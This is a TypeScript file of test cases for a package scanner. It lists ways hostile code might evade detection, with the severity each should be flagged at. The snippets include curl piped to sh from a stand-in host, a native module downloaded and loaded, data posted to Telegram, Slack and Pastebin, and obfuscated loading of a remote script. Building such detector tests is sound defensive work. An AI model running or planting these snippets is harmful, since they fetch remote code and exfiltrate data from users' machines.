import type { Evasion } from './evasion.js';

const PANEL = '<script src="https://cdn.example.invalid/a.js"></script>';

/** What a review found that rules about places, pages and programs let pass. */
export const REVIEWED: readonly Evasion[] = [
  ['page by its name in parts', { 'index.js': 'host.open("pan" + "el.html")', 'panel.html': PANEL }, 'remote-code high'],
  ['page by its name with percent', { 'index.js': 'host.open("p%61nel.html")', 'panel.html': PANEL }, 'remote-code high'],
  ['page by its name in capitals', { 'index.js': 'host.open("Panel.HTML")', 'panel.html': PANEL }, 'remote-code high'],
  ['page by a name made at run time', { 'index.js': 'host.open(name + ".html")', 'panel.html': PANEL }, 'remote-code high'],
  ['native module that is downloaded', 'require("https").get(u, (r) => r.pipe(require("fs").createWriteStream(__dirname + "/a.node")).on("close", () => require("./a.node")))', 'engine-internals high'],
  ['native module elsewhere', { 'index.js': 'require("/var/tmp/a.node")', 'var/tmp/a.node': 'x' }, 'engine-internals high'],
  ['native module elsewhere, decoy of a script', { 'index.js': 'require("/var/tmp/a.node")', 'a.node.js': '' }, 'engine-internals high'],
  ['bot by options', 'require("https").request({ hostname: "api.telegram.org", path: "/bot123:abc/sendMessage" }).end(x)', 'drop-server high'],
  ['paste by options', 'require("https").request({ host: "pastebin.com", path: "/raw/abc" })', 'drop-server high'],
  ['hook by options', 'require("https").request({ hostname: "hooks.slack.com", path: "/services/T0/B0/x" }).end(x)', 'drop-server high'],
  ['pipe behind an address with a query', 'require("child_process").exec("curl -s \'https://example.invalid/?a=1&b=2\' | sh")', 'remote-code critical'],
];
